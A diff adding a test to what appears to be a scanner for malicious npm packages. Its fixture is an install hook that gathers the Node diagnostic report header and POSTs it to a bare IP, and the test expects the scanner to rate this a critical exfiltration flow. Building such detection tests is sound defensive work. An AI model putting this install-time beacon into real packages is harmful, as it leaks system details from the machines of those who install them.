@@ -1810,3 +1810,15 @@ To use the command-line tool, you must first install it globally with \`npm inst
     ).toBeLessThan(0.5);
   });
 });
+
+describe('a diagnostic report as the beacon', () => {
+  it("process.report.getReport()'s header posted to a bare IP while installing", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'node r.js' } }),
+      'r.js': `const rep = process.report.getReport();
+require('http').request({ hostname: '198.51.100.70', port: 8080, method: 'POST', path: '/r' }).end(JSON.stringify(rep.header));`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+    expect(r.risk_level).toBe('critical');
+  });
+});
